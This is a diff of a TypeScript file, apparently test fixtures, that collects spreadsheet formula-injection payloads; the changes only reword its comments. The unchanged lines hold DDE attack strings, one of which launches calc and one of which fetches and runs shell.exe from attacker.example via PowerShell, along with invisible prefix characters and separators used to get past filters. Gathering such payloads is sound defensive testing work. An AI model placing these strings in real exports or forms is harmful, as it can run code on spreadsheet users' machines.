@@ -1,4 +1,7 @@
-/** What begins a formula: the four signs, the wide ones, small and raised ones, the true minus. */
+/**
+ * Characters that start a formula: the four ASCII ones, the wide ones, small and raised ones, the
+ * true minus.
+ */
 const signs = [
   '=',
   '+',
@@ -19,7 +22,7 @@ const signs = [
   '−',
 ]
 
-/** What programs and people have been attacked with. */
+/** Known attacks on programs and people. */
 const attacks = [
   "=cmd|' /C calc'!A0",
   "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
@@ -63,7 +66,10 @@ const attacks = [
   '=SUMME(A1:A9)',
 ]
 
-/** What may stand before the sign without being seen: spaces, marks of direction, fillers, quotes, controls. */
+/**
+ * Characters that may precede the sign unseen: spaces, directional marks, fillers, quotes,
+ * controls.
+ */
 const unseen = [
   ' ',
   '  ',
@@ -139,7 +145,9 @@ const unseen = [
   '\u0301',
 ]
 
-/** Where another cell begins for a program that parts the file at another sign, or forgets the quotes. */
+/**
+ * Separators at which another program may start a new cell, such as one that ignores the quotes.
+ */
 const between = [
   ';',
   ',',
@@ -180,5 +188,5 @@ const all = [
   ],
 ]
 
-/** Everything that a stranger might write into a form so that it becomes a formula in somebody's spreadsheet; each once. */
+/** Every text that a visitor might send to become a formula in a spreadsheet; each once. */
 export const payloads: readonly string[] = [...new Set(all)]
